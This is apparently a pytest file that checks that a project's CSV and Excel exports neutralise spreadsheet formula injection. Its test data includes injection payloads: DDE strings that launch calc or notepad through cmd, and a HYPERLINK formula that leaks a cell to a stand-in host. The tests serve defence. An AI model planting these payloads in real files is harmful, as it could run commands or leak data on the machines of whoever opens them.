"""CSV injection: names that a spreadsheet would run as formulas are written as text in every CSV and Excel file.

Projects and owners named `=HYPERLINK(…)`, `+cmd|…`, `-2+3+cmd|…`, `@SUM(…)` and `＝1+1` are imported, then the
project board and the enterprise list are downloaded as CSV and Excel (both backends); `complexity --out` writes
region codes like `=1+2`. Each such cell gets a leading `'`; plain numbers (negative ECIs) stay as they are.
"""

from __future__ import annotations

import csv
import html
import io
from pathlib import Path

import openpyxl
import pytest

from chainatlas.spreadsheet import neutralise
from chainatlas.store.session import Store
from cli_runner import ok
from web_client import logged_in

NAMES = [
    '=HYPERLINK("http://x.example/?leak="&A2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "＝1+1",
]
OWNER = "=cmd|' /C notepad'!A0有限公司"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1", "'＝1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠A1", "'＠A1"),
        ("-", "'-"), ("-12.5亿元", "'-12.5亿元"),
        ("-1.5", "-1.5"), ("+3", "+3"), ("-2.5%", "-2.5%"), ("-1,234.5", "-1,234.5"), ("-1e-05", "-1e-05"),
        ("平湖市", "平湖市"), ("a=1", "a=1"), ("", ""),
    ],
)  # fmt: skip
def test_the_owasp_rule(text: str, written: str) -> None:
    assert neutralise(text) == written


@pytest.fixture
def projects(store: Store, tmp_path: Path) -> Store:
    path = tmp_path / "projects.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["项目名称", "业主单位", "总投资(亿元)"])
        writer.writerows([[name, OWNER, "2.5"] for name in NAMES] + [["普通项目", "", "-0"]])
    ok(store.url, "projects", "import", path)
    return store


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("url", ["/projects?today=2026-07-05", "/enterprises"])
def test_downloads_carry_no_formula(projects: Store, url: str) -> None:
    client = logged_in(projects)
    shown = html.unescape(client.get(url).text)  # the page shows the names as written
    assert all(name in shown for name in ([OWNER] if url == "/enterprises" else NAMES))
    as_csv = _csv(client.get(url, params={"format": "csv"}).content)
    book = openpyxl.load_workbook(io.BytesIO(client.get(url, params={"format": "xlsx"}).content))
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value or "" for cell in cells] == [text for row in as_csv for text in row]
    assert all(cell.data_type != "f" for cell in cells)
    first = {row[0] for row in as_csv}
    expected = {"'" + OWNER} if url == "/enterprises" else {"'" + name for name in NAMES} | {"普通项目"}
    assert expected <= first
    assert not any(text[:1] in "=+-@＝＋－＠" for row in as_csv for text in row if text != neutralise(text))


def test_complexity_output_neutralises_codes_and_keeps_numbers(tmp_path: Path) -> None:
    source = tmp_path / "trade.csv"
    rows = [("=1+2", "x", 10), ("=1+2", "y", 1), ("-1", "x", 2), ("-1", "y", 8), ("+cmd|' /C calc'!A0", "x", 5),
            ("+cmd|' /C calc'!A0", "y", 5), ("aut", "x", 1), ("aut", "y", 9)]  # fmt: skip
    source.write_text("origin,hs92,v\n" + "".join(f'"{r}",{a},{v}\n' for r, a, v in rows), encoding="utf-8")
    target = tmp_path / "out.csv"
    ok("sqlite://", "complexity", source, "--region", "origin", "--activity", "hs92", "--value", "v", "--out", target)
    with target.open(encoding="utf-8", newline="") as handle:
        written = list(csv.DictReader(handle))
    assert {r["region"] for r in written} == {"'=1+2", "-1", "'+cmd|' /C calc'!A0", "aut"}
    eci = [float(r["eci"]) for r in written]
    assert min(eci) < 0 and all(not r["eci"].startswith("'") for r in written)
